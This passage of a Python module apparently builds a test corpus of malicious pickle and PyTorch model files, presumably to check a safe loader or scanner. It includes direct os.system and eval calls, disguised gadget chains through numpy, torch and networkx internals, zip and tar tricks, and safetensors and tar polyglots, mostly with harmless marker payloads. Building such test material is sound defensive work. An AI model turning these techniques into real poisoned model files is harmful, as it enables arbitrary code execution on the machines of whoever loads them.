    "version-needed": (_headers(4, 6, b"\xff\x00"), "os.system"),
    "wrong-size-in-local-header": (_headers(18, -1, b"\x01\x00\x00\x00"), "os.system"),
    "wrong-name-in-local-header": (_headers(30, -1, b"archive/innocent"), "os.system"),
    "duplicate": (_duplicate, "os.system"),
    "damaged-member-first": (_behind_a_damaged_member, "os.system"),
    "appended": (lambda m: in_zip(SYSTEM)(m) + b"\0" * 64, "os.system"),
    "prepended": (_behind(b"PK\x03\x04 something else"), "os.system"),
    "other-case": (_renamed(b"data.pkl", b"DATA.PKL"), "os.system"),
    "other-top": (lambda m: _renamed(b"archive/", b"x.y z!]/")(m), "os.system"),
    "no-byteorder": (
        lambda m: torch_zip(wire({"x": SYSTEM}, m), members={"byteorder": None}),
        "os.system",
    ),
    "second-archive-appended": (_behind(torch_zip()), "os.system"),
    "imports-itself": (_importable, "sys.path hidden_module.x"),
    "extends-torch": (_package_path, "torch.__path__ torch.hidden_module.x"),
}

# Imports ---------------------------------------------------------------------------------------

IMPORTS = "import acts"

_IMPORTS = {
    "antigravity": ("antigravity:fly", "it opens a browser"),
    "this": ("this:s", "it only prints a poem"),
    "idlelib": ("idlelib.__main__:idlelib", "it opens a window"),
    "turtledemo": ("turtledemo.__main__:main", "it needs tkinter"),
    "test-autotest": ("test.autotest:main", "it runs all of Python's own tests"),
}


def _imports() -> tuple[Attack, ...]:
    return tuple(
        _attack(IMPORTS, f"import-{what}", in_zip(Name(path)), path.replace(":", "."), fires=reason)
        for what, (path, reason) in _IMPORTS.items()
    )


_ELSEWHERE: tuple[Attack, ...] = (
    _attack(
        DIRECT,
        "direct-winreg",
        in_zip(call("winreg:CreateKey", 1, MARKER)),
        "winreg.CreateKey",
        fires="it needs Windows",
    ),
    _attack(
        DIRECT,
        "direct-startfile",
        in_zip(call("os:startfile", MARKER)),
        "os.startfile",
        fires="it needs Windows",
    ),
    _attack(
        DIRECT,
        "direct-nt-system",
        in_zip(call("nt:system", SHELL)),
        "nt.system",
        fires="it needs Windows",
    ),
    _attack(
        DIRECT,
        "direct-execfile",
        in_zip(call("__builtin__:execfile", MARKER)),
        "builtins.execfile",
        fires="it needs Python 2",
    ),
    _attack(
        DIRECT,
        "direct-dill-loads",
        in_zip(call("dill:loads", inner(SYSTEM))),
        "dill.loads",
        fires="dill is not installed",
    ),
    _attack(
        DIRECT,
        "direct-joblib-load",
        in_zip(call("joblib:load", MARKER)),
        "joblib.load",
        fires="joblib is not installed",
    ),
    _attack(
        DIRECT,
        "direct-pandas-eval",
        in_zip(call("pandas:eval", CODE)),
        "pandas.eval",
        fires="pandas is not installed",
    ),
    _attack(
        DIRECT,
        "direct-interpreters",
        in_zip(call("_interpreters:run_string", call("_interpreters:create"), CODE)),
        "_interpreters.run_string",
        fires="Python 3.13 brought it",
    ),
    _attack(
        DIRECT,
        "direct-mlflow-entry-point",
        in_zip(call("mlflow.projects.backend.local:_run_entry_point", SHELL, ".", "", "")),
        "mlflow.projects.backend.local._run_entry_point",
        fires="mlflow is not installed",
    ),
    _attack(
        DIRECT,
        "direct-aix-command",
        in_zip(call("_aix_support:_read_cmd_output", SHELL)),
        "_aix_support._read_cmd_output",
        fires="Python 3.12 brought it",
    ),
    _attack(
        DIRECT,
        "direct-pyrepl-pager",
        in_zip(call("_pyrepl.pager:pipe_pager", "x", SHELL)),
        "_pyrepl.pager.pipe_pager",
        fires="Python 3.13 brought it",
    ),
    _attack(
        DIRECT,
        "direct-atexit",
        in_zip(call("atexit:register", _SYSTEM_NAME, SHELL)),
        "atexit.register",
        fires="it acts when the process that loaded the file ends",
    ),
    _attack(
        GADGET,
        "gadget-datasource",
        in_zip(built("numpy.lib.npyio:DataSource", _istmpdest=True, _destpath=MARKER)),
        "numpy.lib.npyio.DataSource",
        fires="its finalizer deletes a folder and makes none",
    ),
    _attack(
        GADGET,
        "gadget-unlink",
        in_zip(
            built(
                "tempfile:_TemporaryFileCloser",
                file=call("io:BytesIO"),
                delete=True,
                close_called=False,
                name=MARKER,
            )
        ),
        "tempfile._TemporaryFileCloser",
        fires="its finalizer deletes a file and makes none",
    ),
)

#: Bare pickles of the kind that pickle.load reads; torch.load takes no such file from a .pkl.
_PICKLES: tuple[Attack, ...] = tuple(
    _attack(OPCODES, f"pkl-{what}", data, names, suffix=".pkl")
    for what, (data, names) in {
        "system": (bare(SYSTEM), "os.system"),
        "eval": (bare(call("builtins:eval", CODE)), "builtins.eval"),
        "stack-global": (bare(exact("posix:system", SHELL), p.PROTO4), "posix.system"),
        "second-build": (bare(_twice(call("collections:OrderedDict"))), "os.system"),
        "name-mapping": (bare(_GLOBAL_STATE["name-mapping"][0]), "_compat_pickle.NAME_MAPPING"),
        "lines": (_lines("N0"), "os.system"),
    }.items()
)

# Disguised: what acts is held by, or handed to, what is harmless by itself ----------------------

DISGUISED = "disguised by something harmless"

_LOADS = Name("pickle:loads")
_QUIET = partial("shutil:copyfile", "/dev/null", MARKER)
_MESH = "torch.distributed.device_mesh:DeviceMesh"
_SPEC = "torch.distributed.tensor._dtensor_spec:DTensorSpec"
_SHOWN = namespace(_get_args=_QUIET)  # what argparse.Namespace.__repr__ calls
_MKDIRS = call("itertools:accumulate", [MARKER, 0o755], Name("os:mkdir"))
_NESTED_MKDIRS = call("pickle:loads", inner(_MKDIRS))


def _as_key(key: object) -> Then:
    return Then((Op(b"}"), key, None, Op(b"s")))


def _text_of(value: object) -> Call:
    return call("builtins:str", value)


_COUNTED = built("collections:UserList", data=built("collections:ChainMap", maps=[_MKDIRS]))
_OF_OBJECTS = call("numpy:dtype", "O8", False, True)


def _array_of(item: object, dtype: object = _OF_OBJECTS) -> Build:
    made = call("numpy.core.multiarray:_reconstruct", Name("numpy:ndarray"), (0,), b"b")
    return Build(made, (1, (1,), dtype, False, [item]))


def _deque_of(item: object) -> Then:
    return Then((call("collections:deque"), item, Op(b"a")))


_BUFFER = call(
    "torch._tensor:_rebuild_from_type_v2",
    Name("torch._utils:_rebuild_tensor_v2"),
    Name("torch.nn.parameter:UninitializedBuffer"),
    (Op(p.storage()), 0, (4,), (1,), False, call("collections:OrderedDict")),
    {"detach": _QUIET},
)
_AS_SUBCLASS = (
    Name("collections:OrderedDict"),
    Name("collections:OrderedDict"),
    (),
    {"as_subclass": ACT_ANYHOW},
)

_DISGUISED: dict[str, tuple[object, str]] = {
    "text-of-an-error": (_text_of(call("builtins:ValueError", _SHOWN)), "builtins.str"),
    "text-of-a-slice": (_text_of(call("builtins:slice", _SHOWN)), "builtins.str"),
    "text-of-an-alias": (_text_of(call("types:GenericAlias", _SHOWN, ())), "builtins.str"),
    "text-of-a-repeat": (_text_of(call("itertools:repeat", _SHOWN)), "builtins.str"),
    "text-of-a-list": (_text_of(call("builtins:list", [_SHOWN])), "builtins.str"),
    "keys-of-an-alias": (
        call("collections:UserDict", call("types:GenericAlias", namespace(keys=_QUIET), ())),
        "collections.UserDict",
    ),
    "uuid-of-an-alias": (
        call("uuid:UUID", call("types:GenericAlias", namespace(replace=ACT_ANYHOW), ())),
        "os.makedirs",
    ),
    "user-dict-of-a-chain-map": (
        call(
            "collections:UserDict",
            call("collections:ChainMap", call("collections:defaultdict", _QUIET), {"x": 1}),
        ),
        "collections.ChainMap",
    ),
    "list-of-nested": (call("builtins:list", _NESTED_MKDIRS), "builtins.list os.mkdir"),
    "dict-of-nested": (call("builtins:dict", [_NESTED_MKDIRS]), "builtins.dict os.mkdir"),
    "partial-changed-later": (
        Then(
            (
                call("functools:partial", _LOADS, inner(SYSTEM)),
                Op(b"q\x20)R0h\x20"),
                (Name("builtins:dict"), (), {}, None),
                Op(b"b"),
            )
        ),
        "os.system functools.partial",
    ),
    "base-that-iterates": (
        call(
            "copyreg:_reconstructor",
            Name("collections:OrderedDict"),
            Name("builtins:dict"),
            [_MKDIRS],
        ),
        "os.mkdir",
    ),
    "base-that-asks-for-text": (
        call("copyreg:_reconstructor", Name("builtins:str"), Name("builtins:str"), [_SHOWN]),
        "copyreg._reconstructor",
    ),
    "as-subclass": (
        call(
            "torch._tensor:_rebuild_from_type_v2",
            Name("torch._tensor:_rebuild_from_type_v2"),
            Name("collections:defaultdict"),
            _AS_SUBCLASS,
            {},
        ),
        "os.makedirs",
    ),
    "detach-of-a-buffer": (
        call("torch._utils:_rebuild_parameter", _BUFFER, False, call("collections:OrderedDict")),
        "torch._utils._rebuild_parameter",
    ),
    "mesh-iterates": (built(_MESH, _dim_group_names=_MKDIRS), "os.mkdir"),
    "mesh-as-a-key": (
        _as_key(built(_MESH, _hash_key=_QUIET)),
        "torch.distributed.device_mesh.DeviceMesh",
    ),
    "mesh-in-a-key": (
        _as_key(built("collections:UserString", data=built(_MESH, _hash_key=_QUIET))),
        "torch.distributed.device_mesh.DeviceMesh",
    ),
    "spec-as-a-key": (
        _as_key(built(_SPEC, _hash_impl=_QUIET, _hash=None)),
        "torch.distributed.tensor._dtensor_spec.DTensorSpec",
    ),
    "size-as-a-key": (
        _as_key(built("torch:SymInt", node=namespace(is_nested_int=_QUIET))),
        "torch.SymInt",
    ),
    "view-of-a-graph": (
        built(
            "networkx.classes.reportviews:OutEdgeDataView",
            viewer=namespace(_adjdict={}, _graph=namespace(nbunch_iter=_LOADS)),
            nbunch=inner(SYSTEM),
        ),
        "networkx.classes.reportviews.OutEdgeDataView",
    ),
    "type-of-a-persistent-id": (
        persistent(_SHOWN, Name("torch:FloatStorage"), "0", "cpu", 4),
        "argparse.Namespace",
    ),
    "key-of-a-persistent-id": (
        persistent(
            "storage",
            Name("torch:FloatStorage"),
            call("builtins:ValueError", _SHOWN),
            "cpu",
            4,
        ),
        "builtins.ValueError",
    ),
    "nested-persistent-id": (
        call(
            "torch.storage:_load_from_bytes",
            Late(lambda m: torch_legacy(wire(persistent(_SHOWN, 1, 2), m))),
        ),
        "argparse.Namespace",
    ),
    "text-of-an-array": (_text_of(_array_of(_SHOWN)), "builtins.str"),
    "truth-of-an-array": (call("builtins:bool", _array_of(_COUNTED)), "builtins.bool"),
    "keys-of-an-array": (
        call("collections:UserDict", _array_of(_MKDIRS)),
        "collections.UserDict os.mkdir",
    ),
    "array-of-an-id": (
        persistent(_array_of(_SHOWN), Name("torch:FloatStorage"), "0", "cpu", 4),
        "argparse.Namespace numpy.core.multiarray._reconstruct",
    ),
    "array-that-converts-to-bool": (
        _array_of((1, _COUNTED), call("numpy:dtype", [("a", "O"), ("b", "?")])),
        "numpy.core.multiarray._reconstruct os.mkdir",
    ),
    "array-that-converts-to-text": (
        _array_of((1, _SHOWN), call("numpy:dtype", [("a", "O"), ("b", "U9")])),
        "numpy.core.multiarray._reconstruct",
    ),
    "text-of-a-deque": (_text_of(_deque_of(_SHOWN)), "builtins.str"),
    "text-of-deques": (
        _text_of(_deque_of(call("collections:deque", [_SHOWN]))),
        "builtins.str",
    ),
    "text-of-an-address": (
        _text_of(
            Build(
                new("ipaddress:IPv4Address"),
                (
                    None,
                    {
                        "_ip": namespace(
                            to_bytes=call("functools:partial", Name("os:makedirs"), MARKER)
                        )
                    },
                ),
            )
        ),
        "ipaddress.IPv4Address os.makedirs",
    ),
    "text-of-a-subscription": (
        _text_of(call("operator:getitem", Name("builtins:dict"), _SHOWN)),
        "builtins.str",
    ),
    "text-of-a-union": (
        _text_of(
            call(
                "functools:reduce",
                Name("operator:or_"),
                (Name("builtins:int"), call("types:GenericAlias", Name("builtins:list"), _SHOWN)),
            )
        ),
        "builtins.str functools.reduce",
    ),
    "layout-of-a-tensor": (
        call("torch._utils:_rebuild_sparse_tensor", call("builtins:ValueError", _SHOWN), [1]),
        "torch._utils._rebuild_sparse_tensor",
    ),
    "state-of-a-generator": (
        Build(
            call("numpy.random._pickle:__bit_generator_ctor", "SFC64"),
            {
                "bit_generator": "SFC64",
                "state": {"state": _COUNTED},
                "has_uint32": 0,
                "uinteger": 0,
            },
        ),
        "numpy.random._pickle.__bit_generator_ctor os.mkdir",
    ),
    "nested-archive-of-two": (
        call("torch.storage:_load_from_bytes", Late(lambda m: _two_pickles(m))),
        "os.system",
    ),
}


def _two_pickles(marker: str) -> bytes:
    """An archive whose first member that is called data.pkl is not the one that torch reads."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in {
            "archive/data/data.pkl": p.PROTO2 + b"N.",
            "archive/data.pkl": p.PROTO2 + wire(SYSTEM, marker) + b".",
            "archive/version": b"3\n",
            "archive/byteorder": b"little",
        }.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


# Files that are two things at once --------------------------------------------------------------

POLYGLOT = "two formats at once"


def _lined(marker: str) -> bytes:
    return f"cos\nsystem\n(Vtouch {marker}\ntR.".encode()


def _safetensors_and_pickle(marker: str) -> bytes:
    """SHORT_BINSTRING takes the header as far as a V, which takes the rest of it."""
    data = b"000" + _lined(marker)
    head = b'{"__metadata__":{"a":"'
    skipped = 8 + len(head) - 2
    header = head + b'V"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}' % (
        (len(data),) * 2
    )
    length = 0x55 | skipped << 8
    return struct.pack("<Q", length) + header + b" " * (length - len(header) - 2) + b"\n}" + data


def _tar_and_pickle(rest: bytes) -> File:
    """A member whose name is opcodes; a BINSTRING takes the rest of its header."""

    def file(marker: str) -> bytes:
        header = bytearray(512)
        header[:100] = b"N0" * 49 + b"NT"
        header[100:104] = struct.pack("<I", 512 - 104)
        code = b"0" + _lined(marker)
        header[124:136] = b"%011o\0" % len(code)
        header[136:148] = b"0" * 11 + b"\0"
        header[148:157] = b" " * 8 + b"0"
        header[257:265] = b"ustar\x0000"
        header[148:156] = b"%06o\0 " % sum(header)
        return bytes(header) + code + bytes(-len(code) % 512) + rest

    return file


_POLYGLOTS: dict[str, tuple[File, str]] = {
    "safetensors": (_safetensors_and_pickle, "os.system"),
    "tar": (_tar_and_pickle(torch_tar()), "os.system"),
    "empty-tar": (_tar_and_pickle(bytes(1024)), "os.system"),
    "tar-without-a-pickle": (
        lambda m: tar_member("storages", p.pickle(wire(SYSTEM, m))) + bytes(1024),
        "os.system",
    ),
    "tar-with-the-source-of-a-class": (
        lambda m: torch_tar(
            body=wire(Then(((Name("torch.nn.modules.linear:Linear"), _COUNTED, "x"), Op(b"Q"))), m)
        ),
        "os.mkdir",
    ),
    "partials-without-an-end": (lambda m: wire(_many_partials(110), m), "shutil.copyfile"),
    "module-that-is-no-identifier": (
        lambda m: f"]0clib-dynload._sqlite3\nconnect\n(V{m}\ntR".encode(),
        "lib-dynload._sqlite3.connect",
    ),
}


def _many_partials(number: int) -> object:
    function: object = Name("shutil:copyfile")
    for _ in range(number):
        function = call("functools:partial", function)
    return Then((Op(b"]0"), Call(function, ("/dev/null", MARKER))))


ATTACKS: tuple[Attack, ...] = (
    *_calls(DIRECT, "direct", _DIRECT),
    *_values(DIRECT, "chain", _CHAINS),
    *_calls(PATHS, "path", _DOTTED, p.PROTO4),
    *_values(PATHS, "path", _DOTTED_CHAINS, p.PROTO4),
    *_values(PATHS, "lookup-2", _GETATTR),
    *_values(PATHS, "lookup-4", _GETATTR, p.PROTO4),
    *_files(PATHS, "lookup-0", _LINES),
    *_calls(REEXPORT, "re-export", _REEXPORTS),
    *_values(
        GADGET,
        "closer",
        {
            _kebab(path): (built(path, close=ACT), f"{path.replace(':', '.')} os.system")
            for path in _CLOSERS
        },
    ),
    *_values(GADGET, "finalizer", _FINALIZED),
    *_values(GADGET, "state", _STATES),
    *_values(GADGET, "second-build", _SECOND),
    *_values(GADGET, "method", _METHODS),
    *_values(GADGET, "global-state", _GLOBAL_STATE),
    *_files(GADGET, "global-state", _UNREAD),
    *_values(GADGET, "hash", _hash_cases()),
    *_values(ALLOWED, "allowed", _ABUSED),
    *_files(LEGACY, "legacy", _LEGACY),
    *_files(TAR, "tar", _TAR),
    *_values(OPCODES, "form", _FORMS),
    *_files(OPCODES, "stream", _STREAMS),
    *_PICKLES,
    *_values(NESTED, "nested", _NESTED, p.PROTO4),
    *_files(BROKEN, "broken", _BROKEN),
    *_files(ZIP, "zip", _ZIP),
    *_imports(),
    *_ELSEWHERE,
    *_values(DISGUISED, "disguised", _DISGUISED, p.PROTO4),
    *_files(POLYGLOT, "polyglot", _POLYGLOTS),
)
